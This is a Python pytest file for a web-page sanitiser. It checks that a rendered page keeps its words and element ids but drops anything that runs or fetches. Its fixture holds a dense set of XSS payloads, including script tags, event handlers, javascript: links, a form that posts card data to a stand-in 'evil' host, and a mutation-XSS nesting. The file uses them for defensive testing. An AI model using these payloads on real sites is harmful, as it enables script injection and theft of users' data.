"""What is drawn of a page: its words, elements by their ids and the marks; nothing that acts or fetches."""

from __future__ import annotations

import re

import pytest

from readagent_core.web_pages.frame import anchor_of, clean_body, frame_html
from readagent_core.web_pages.memory import cut_memory
from readagent_core.web_pages.parsing import parse_page
from tests.web_pages.pages import shop

HOSTILE = """<body onload=steal()><script src=//evil/x.js></script><meta http-equiv=refresh content="0;url=//evil">
<base href=//evil><form action=//evil method=post><input name=card autofocus onfocus=steal() value='" onfocus="x'>
<input type=image src=//evil/a.png><input type=password><button formaction=//evil>Pay</button></form>
<a href="javascript:steal()" target=_top ping=//evil>click</a><a href="//evil">away</a>
<img src=//evil/pixel.png onerror=steal() alt="a <b>lamp</b>"><iframe src=//evil srcdoc="<script>1</script>"></iframe>
<svg><use href="//evil#a"/><animate onbegin=steal()/><foreignObject><img src=//evil></foreignObject></svg>
<div style="background:url(//evil)">words</div><link rel=stylesheet href=//evil/a.css><object data=//evil></object>
<style>@import url(//evil)</style><math><mtext><table><mglyph><style><img src=x onerror=steal()></style>
</table></math>
<video src=//evil poster=//evil></video><noscript><img src=//evil></noscript>
<p id="x' onclick='steal()">end</p></body>"""


def test_nothing_that_acts_or_fetches_is_drawn():
    body = clean_body(cut_memory(parse_page(HOSTILE)))
    assert "evil" not in body
    assert "steal" not in body.replace("&quot; onfocus=&quot;x", "")
    assert set(re.findall(r"\s([a-z-]+)=", re.sub(r'"[^"]*"', '""', body))) <= {
        "id", "class", "type", "value", "placeholder", "checked", "disabled", "selected",
    }  # fmt: skip
    assert not re.search(r"<(?:script|style|form|iframe|img|svg|link|meta|base|object|video|math|body)\b", body)
    for words in ("Pay", "click", "away", "words", "end", "a &lt;b&gt;lamp&lt;/b&gt;"):
        assert words in body


def test_elements_and_snippets_can_be_marked():
    page = cut_memory(parse_page(shop()))
    body = clean_body(page)
    assert body.count('id="e504"') == 1
    assert ">Search &amp; go </button>" in body
    assert '<span id="e504" class="field"><button type="button">' in body  # which gets no focus from a fragment
    for snippet in page.snippets:
        assert f'class="s{snippet.number}"' in body
        assert f'id="{anchor_of(page, snippet.number)}"' in body
    whole = frame_html(body, "p {}", chosen="504", opened=(2, 3), theme="dark")
    assert "#e504 { max-width: calc(100% - 18px); margin: 9px;" in whole  # so its frame is drawn whole
    assert ".s2, .s3 {" in whole
    assert '<html class="dark">' in whole
    assert '"></style><script>' not in frame_html("", "", chosen='"></style><script>', theme='"><script>')


@pytest.mark.parametrize("markup", ["<b>" * 2000 + "deep", "<table>" * 1500 + "<tr><td>deep", "<a><p>" * 900 + "deep"])
def test_deep_pages_are_drawn(markup):
    page = parse_page(markup)
    assert "deep" in clean_body(cut_memory(page)) or page.cut
